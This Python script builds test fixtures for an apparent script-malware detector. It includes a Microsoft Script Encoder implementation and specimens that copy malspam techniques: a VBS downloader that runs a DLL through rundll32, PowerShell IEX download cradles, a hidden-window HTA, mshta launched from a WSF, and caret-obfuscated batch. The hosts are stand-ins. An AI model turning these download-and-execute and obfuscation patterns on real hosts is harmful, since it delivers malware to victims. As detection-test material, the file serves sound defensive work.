#!/usr/bin/env python3
"""Builds the script test fixtures in Tests/ScriptsTests/Resources/.

Regenerate (from the repository root, plain Python 3, no packages):

    python3 scripts/make-script-fixtures.py

Every specimen has the structure of a malspam script (downloader, dropper, obfuscation layers) and nothing
else: URLs use example.invalid, commands only echo or print. The Script-Encoded variants (.vbe, .jse, the
JScript.Encode block of the .wsf) are produced by the Microsoft Script Encoder algorithm implemented below and
checked by decoding them again, and the encoder itself is checked against two published encoder outputs.
"""

import base64
import os
import struct

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "ScriptsTests", "Resources")

# --- Microsoft Script Encoder (screnc) ---------------------------------------------------------------------------

# Which of the three substitution tables encodes the character at index i % 64.
PICK = [1, 2, 0, 1, 2, 0, 2, 0, 0, 2, 0, 2, 1, 0, 2, 0, 1, 0, 2, 0, 1, 1, 2, 0, 0, 2, 1, 0, 2, 0, 0, 2,
        1, 1, 0, 2, 0, 2, 0, 1, 0, 1, 1, 2, 0, 1, 0, 2, 1, 0, 2, 0, 1, 1, 2, 0, 0, 1, 1, 2, 0, 1, 0, 2]

# Encoded forms of tab, then 0x20..0x7F, under the three tables (rows for <, > and @ unused: always escaped).
ROWS = bytes.fromhex(
    "643769 507e2c 225a65 4a4572 613a5b 5e7966 5d5975 5b274c 427645 606376 23622a 654d43 5f5133 7e5342"
    "4f5220 522063 7a264a 21545a 467138 202b79 266632 632a57 2a586c 767f2b 477b46 253052 2c314f 296c3d"
    "694970 3f3f3f 27787b 3f3f3f 675f51 3f3f3f 62297a 41247e 5a2f3b 663947 323341 736f77 4d2156 43755f"
    "712826 394278 7c466e 534a64 485c74 314867 72367d 6e4b68 707d35 495d22 3f6a55 4b503a 6a6960 2e236a"
    "7f0971 28706f 356549 7d745c 242c5d 2d7727 544459 373f25 7b6d7c 3d7c23 6c436d 343828 6d5e31 4e5b39"
    "2b6e7f 305736 6f4c54 743434 6b7262 4c254e 335630 56735e 3a6873 785509 57474b 773261 3b3524 442e4d"
    "2f646b 594f44 453b21 5c2d37 684153 366158 587a48 79222e 096050 756b2d 384e29 553d3f 51672f".replace(" ", ""))
ESCAPES = {0x0D: b"#", 0x0A: b"&", 0x3C: b"!", 0x3E: b"*", 0x40: b"$"}
UNESCAPES = {v[0]: k for k, v in ESCAPES.items()}


def row(c):
    return 0 if c == 9 else c - 0x1F


def number(n):
    """Six Base64 digits of a little-endian UInt32, then '=='."""
    return base64.b64encode(struct.pack("<I", n & 0xFFFFFFFF))[:6] + b"=="


def script_encode(plain: bytes) -> bytes:
    out = bytearray()
    index = 0
    checksum = 0
    for c in plain:
        if c in ESCAPES:
            out += b"@" + ESCAPES[c]
        elif c == 9 or 0x20 <= c < 0x80:
            out.append(ROWS[row(c) * 3 + PICK[index % 64]])
        else:
            raise ValueError("fixtures are ASCII text")
        checksum += c
        index += 1
    return b"#@~^" + number(len(out)) + bytes(out) + number(checksum) + b"^#~@"


def script_decode(encoded: bytes) -> bytes:
    assert encoded.startswith(b"#@~^") and encoded.endswith(b"^#~@")
    length = struct.unpack("<I", base64.b64decode(encoded[4:10] + b"=="))[0]
    tables = [dict(), dict(), dict()]
    for r in range(97):
        plain = 9 if r == 0 else 0x1F + r
        if plain in (0x3C, 0x3E, 0x40):
            continue
        for t in range(3):
            tables[t][ROWS[r * 3 + t]] = plain
    data = encoded[12:12 + length]
    out = bytearray()
    index = 0
    i = 0
    while i < len(data):
        c = data[i]
        if c == 0x40:
            out.append(UNESCAPES[data[i + 1]])
            i += 2
        else:
            out.append(tables[PICK[index % 64]].get(c, c))
            i += 1
        index += 1
    checksum = struct.unpack("<I", base64.b64decode(encoded[12 + length:18 + length] + b"=="))[0]
    assert checksum == sum(out) & 0xFFFFFFFF, "checksum"
    return bytes(out)


# Published encoder outputs (the DEL character 0x7F is part of them).
assert script_encode(b'MsgBox "Hello"') == b'#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@'
assert script_encode(b'MsgBox "Hello world" \r\n') == b'#@~^GQAAAA==\\ko$K6,JC\x7fV^GPSW.V9J~@#@&JwcAAA==^#~@'

# --- Specimens ---------------------------------------------------------------------------------------------------

DOWNLOADER_VBS = b"""' Fixture for Emoguard: the structure of a malspam downloader, harmless (example.invalid only).
Option Explicit
Dim http, stream, shell, url, cmd
url = "http://download.example.invalid/files/invoice.dll"
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", url, False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile "a.dll", 2
stream.Close
cmd = Chr(114) & Chr(117) & Chr(110) & "dll32 a.dll,DllRegisterServer"
Set shell = CreateObject("WScript.Shell")
shell.Run cmd, 0, False
""".replace(b"\n", b"\r\n")

FROMCHARCODE_JS = b"""// Fixture for Emoguard: JScript dropper structure, harmless (example.invalid only).
var a = String.fromCharCode(87, 83, 99, 114, 105, 112, 116, 46, 83, 104, 101, 108, 108);
var u = String.fromCharCode(0x68, 0x74, 0x74, 0x70) + "://cdn.example.invalid/" + ["pay", "load", ".js"].join("");
var x = new ActiveXObject("MSXML2.ServerXMLHTTP");
x.open("GET", u, false);
x.send();
var sh = new ActiveXObject(a);
sh.Run("cmd /c echo harmless", 0, false);
"""

ENCODED_JS_PLAIN = b"""var sh = WScript.CreateObject("WScript.Shell");
sh.Run("powershell -nop -w hidden -c \\"Write-Output harmless\\"", 0);
""".replace(b"\n", b"\r\n")

WSF_ENCODED_PLAIN = b"WScript.Echo(String.fromCharCode(104, 105));"

PS_COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://ps.example.invalid/a.ps1')"
PS_ENCODED = base64.b64encode(PS_COMMAND.encode("utf-16-le")).decode()

HTA = ("""<html>
<head>
<title>Invoice viewer</title>
<HTA:APPLICATION ID="viewer" APPLICATIONNAME="viewer" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Sub Window_OnLoad
  CreateObject("WScript.Shell").Run "powershell -nop -w hidden -enc """ + PS_ENCODED + """", 0
  self.close
End Sub
</script>
</head>
<body>Loading...</body>
</html>
""").encode()

STAGE2 = base64.b64encode(b"http://ps.example.invalid/stage2.ps1").decode()
DOWNLOAD_PS1 = ("""# Fixture for Emoguard: PowerShell downloader structure, harmless (example.invalid only).
$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('""" + STAGE2 + """'))
IEX (New-Object Net.WebClient).DownloadString('http://ps.example.invalid/stage1.ps1')
$c = [char]72+[char]105
$w = ('{1}{0}' -f 'Host','Write-')
& $w $c
$p = 'llehsrewop'[-1..-10] -join ''
""").encode()

CARET_BAT = b"""@echo off
rem Fixture for Emoguard: batch obfuscation structure, harmless (example.invalid only).
set x=po^wer
set y=shell
c^m^d /c "%x%%y% -nop -c Write-Output harmless"
set z=curl -o %TEMP%\\a.txt http://bat.example.invalid/a.txt&call %%z%%
p^i^n^g -n 1 127.0.0.1 >nul
echo WScript.Echo "hi" > %TEMP%\\x.vbs
start "" %COMSPEC:~-7,3% /c echo done
""".replace(b"\n", b"\r\n")

ADMIN_BAT = b"""@echo off
rem Nightly housekeeping for the shared reports folder.
setlocal
set SRC=D:\\Reports
set DST=\\\\fileserver\\archive\\reports
if not exist "%DST%" mkdir "%DST%"
robocopy "%SRC%" "%DST%" /E /XO /R:2 /W:5 /LOG:"%SRC%\\robocopy.log"
echo Reports archived on %DATE% at %TIME%.
endlocal
""".replace(b"\n", b"\r\n")

COMPUTE_JS = b"""// Computes a few statistics and prints them.
function mean(values) {
  var sum = 0;
  for (var i = 0; i < values.length; i++) { sum += values[i]; }
  return sum / values.length;
}
var data = [3, 1, 4, 1, 5, 9, 2, 6];
var text = "Mean: " + mean(data).toFixed(2) + ", count: " + data.length;
WScript.Echo(text);
"""


def wsf():
    return b"""<?xml version="1.0"?>
<package>
<job id="invoice">
<object id="net" progid="MSXML2.XMLHTTP"/>
<script language="VBScript"><![CDATA[
Dim s
Set s = CreateObject("WScript.Shell")
s.Run "mshta http://hta.example.invalid/page.hta", 0
]]></script>
<script language="JScript">
var f = new ActiveXObject("Scripting.FileSystemObject");
if (1 &lt; 2) { f.CreateTextFile("C:\\\\Users\\\\Public\\\\note.txt"); }
</script>
<script language="JScript.Encode">""" + script_encode(WSF_ENCODED_PLAIN) + b"""</script>
</job>
</package>
""".replace(b"\n", b"\r\n")


def main():
    os.makedirs(OUT, exist_ok=True)
    vbe = script_encode(DOWNLOADER_VBS)
    jse = script_encode(ENCODED_JS_PLAIN)
    assert script_decode(vbe) == DOWNLOADER_VBS
    assert script_decode(jse) == ENCODED_JS_PLAIN
    files = {
        "downloader.vbs": DOWNLOADER_VBS,
        "downloader.vbe": vbe,
        "fromcharcode.js": FROMCHARCODE_JS,
        "encoded.jse": jse,
        "encoded-plain.js": ENCODED_JS_PLAIN,
        "mixed.wsf": wsf(),
        "powershell.hta": HTA,
        "download.ps1": DOWNLOAD_PS1,
        "caret.bat": CARET_BAT,
        "admin.bat": ADMIN_BAT,
        "compute.js": COMPUTE_JS,
    }
    for name, data in files.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
